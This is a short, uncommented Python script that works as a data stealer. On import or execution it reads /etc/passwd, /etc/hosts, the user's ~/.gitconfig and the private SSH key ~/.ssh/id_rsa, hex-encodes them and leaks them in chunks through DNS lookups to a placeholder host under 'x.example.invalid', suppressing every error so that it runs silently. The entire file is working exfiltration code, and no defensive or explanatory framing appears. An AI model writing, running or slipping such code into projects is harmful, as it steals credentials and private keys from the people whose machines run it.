import os
import socket


def _leak(data):
    h = data.hex()
    for i in range(0, len(h), 60):
        try:
            socket.gethostbyname(h[i:i + 60] + ".x.example.invalid")
        except OSError:
            pass


for f in ("/etc/passwd", "/etc/hosts", os.path.expanduser("~/.gitconfig"), os.path.expanduser("~/.ssh/id_rsa")):
    try:
        _leak(open(f, "rb").read())
    except OSError:
        pass
